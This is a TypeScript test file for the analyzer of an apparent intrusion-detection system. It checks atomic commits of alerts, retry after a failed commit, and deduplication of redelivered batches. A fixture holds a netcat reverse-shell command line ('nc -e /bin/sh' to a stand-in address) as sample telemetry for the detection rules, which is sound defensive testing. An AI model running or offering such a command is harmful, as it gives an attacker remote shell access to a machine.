/**
 * The analyzer: a batch's detection results and its analyzed mark are one commit; over a durable
 * bus, a batch delivered again after it was analyzed is not analyzed twice.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { MemoryBus } from '../src/bus/memory.ts';
import { LiveHub } from '../src/live.ts';
import { Metrics } from '../src/metrics.ts';
import { AlertPipeline } from '../src/pipeline/alerts.ts';
import { Analyzer } from '../src/pipeline/analyzer.ts';
import { EventIngest } from '../src/pipeline/ingest.ts';
import { RuleSet } from '../src/pipeline/rules.ts';
import type { VulnerabilityMatcher } from '../src/pipeline/vulnerabilities.ts';
import { SettingsCache } from '../src/settings.ts';
import { SqliteStore } from '../src/store/sqlite/sqlite-store.ts';
import type { DetectionWrites, EventBatch, Store } from '../src/store/store.ts';
import { execEvent } from '../test-support/agent-client.ts';

async function analyzerOn(store: Store, bus: MemoryBus) {
  const metrics = new Metrics();
  const settings = new SettingsCache(store);
  await settings.load();
  const alerts = new AlertPipeline(store, settings, new LiveHub(), metrics, { publish() {} });
  return new Analyzer(store, bus, RuleSet.load([], new Map()), alerts, {} as VulnerabilityMatcher, new EventIngest(store, bus, metrics), metrics, () => {});
}

const reverseShell = (pid: number) => execEvent('h1', { pid, name: 'nc', executable: '/tmp/nc', args: ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'] });
const batchOf = (id: string, events = [reverseShell(4444)]): EventBatch => ({ id, agent_id: 'a1', host_id: 'h1', received_at: new Date().toISOString(), events });

/** The store, with every `commitDetections` call recorded; `failFirst` rejects the first one before it writes. */
function recording(store: Store, failFirst = false) {
  const commits: DetectionWrites[] = [];
  const wrapped = new Proxy(store, {
    get(target, prop, receiver) {
      if (prop !== 'commitDetections') return Reflect.get(target, prop, receiver);
      return async (w: DetectionWrites) => {
        commits.push(w);
        if (failFirst && commits.length === 1) throw new Error('disk full');
        return target.commitDetections(w);
      };
    },
  });
  return { store: wrapped, commits };
}

test("one batch is one commit: its alerts (repeats counted on one), its incident and its analyzed mark", async () => {
  const dir = mkdtempSync(join(tmpdir(), 'vigil-analyzer-'));
  const store = new SqliteStore(join(dir, 's.sqlite'));
  const spy = recording(store);
  const bus = new MemoryBus();
  const analyzer = await analyzerOn(spy.store, bus);
  try {
    await analyzer.start();
    await store.appendEvents(batchOf('b1', [reverseShell(1), reverseShell(2), reverseShell(3)]));
    await bus.publish({ topic: 'events', key: 'h1', id: 'b1', payload: batchOf('b1', [reverseShell(1), reverseShell(2), reverseShell(3)]) });
    await bus.drained();
    assert.equal(spy.commits.length, 1);
    assert.equal(spy.commits[0].analyzed_batch, 'b1');
    const alerts = (await store.listAlerts({ limit: 100 })).items;
    assert.ok(alerts.length > 0, 'the batch raises alerts');
    for (const a of alerts) assert.deepEqual([a.count, a.event_ids], [3, ['b1:0', 'b1:1', 'b1:2']], `${a.rule_id}: one alert per dedup key`);
    const incidents = (await store.listIncidents({})).items;
    assert.deepEqual(incidents.map((i) => i.alert_count), [alerts.length], 'the alerts share one incident');
    assert.ok(alerts.every((a) => a.incident_id === incidents[0].id));
    assert.equal(await store.isBatchAnalyzed('b1'), true);
  } finally {
    await analyzer.stop();
    await bus.close();
    await store.close();
    rmSync(dir, { recursive: true, force: true });
  }
});

test('a failed commit leaves the batch unmarked with none of its alerts; analyzing it again stores them once', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'vigil-analyzer-'));
  const store = new SqliteStore(join(dir, 's.sqlite'));
  const spy = recording(store, true);
  const bus = new MemoryBus({ retryDelayMs: 10 });
  const analyzer = await analyzerOn(spy.store, bus);
  try {
    await analyzer.start();
    await store.appendEvents(batchOf('b1'));
    await bus.publish({ topic: 'events', key: 'h1', id: 'b1', payload: batchOf('b1') });
    await bus.drained();
    assert.equal(spy.commits.length, 2, 'the bus redelivered the batch once');
    const alerts = (await store.listAlerts({ limit: 100 })).items;
    assert.ok(alerts.length > 0);
    assert.ok(alerts.every((a) => a.count === 1), 'nothing of the failed attempt was stored');
    assert.equal((await store.listIncidents({})).items[0]?.alert_count, alerts.length);
    assert.equal(await store.isBatchAnalyzed('b1'), true);
  } finally {
    await analyzer.stop();
    await bus.close();
    await store.close();
    rmSync(dir, { recursive: true, force: true });
  }
});

test('durable bus: a redelivered batch (crash after its analyzed mark, before the ack) adds no alert counts', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'vigil-analyzer-'));
  const store = new SqliteStore(join(dir, 's.sqlite'));
  // The in-process bus standing in for JetStream: the analyzer then stores batches itself.
  const bus = Object.defineProperty(new MemoryBus(), 'durable', { value: true });
  const analyzer = await analyzerOn(store, bus);
  const batch = batchOf('b1');
  const counts = async () => (await store.listAlerts({ limit: 100 })).items.map((a) => [a.rule_id, a.count]).sort();
  try {
    await analyzer.start();
    await bus.publish({ topic: 'events', key: 'h1', id: 'b1', payload: batch });
    await bus.drained();
    const first = await counts();
    assert.ok(first.length > 0, 'the batch raises alerts');
    assert.equal(await store.isBatchAnalyzed('b1'), true);
    await bus.publish({ topic: 'events', key: 'h1', id: 'b1', payload: batch });
    await bus.drained();
    assert.deepEqual(await counts(), first);
  } finally {
    await analyzer.stop();
    await bus.close();
    await store.close();
    rmSync(dir, { recursive: true, force: true });
  }
});
